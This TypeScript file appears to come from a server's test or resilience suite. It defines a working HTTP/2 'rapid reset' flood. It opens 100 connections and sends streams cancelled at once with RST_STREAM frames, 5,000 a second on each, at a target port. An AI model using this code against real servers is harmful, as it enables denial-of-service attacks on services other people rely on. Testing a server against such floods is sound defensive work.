import { flags, four, frame, get, preface } from "../../../test/support/http2-frames.ts";
import type { Attack } from "../attack.ts";
import { keepOpen, writeEvery } from "../connections.ts";

const cancel = 8;
const headers = get("/healthz");

export const rapidResets: Attack = {
  what: "100 HTTP/2 connections open streams and cancel them at once, 5,000 a second on each",
  begin({ port }) {
    keepOpen(100, port, (socket) => {
      let next = 1;
      socket.write(Buffer.concat([preface, frame("settings", 0, 0)]));
      writeEvery(10, socket, () => {
        const ids = Array.from({ length: 50 }, (_, index) => next + 2 * index);
        next += 100;
        return Buffer.concat(
          ids.flatMap((id) => [
            frame("headers", flags.endHeaders | flags.endStream, id, headers),
            frame("reset", 0, id, four(cancel)),
          ]),
        );
      });
    });
  },
};
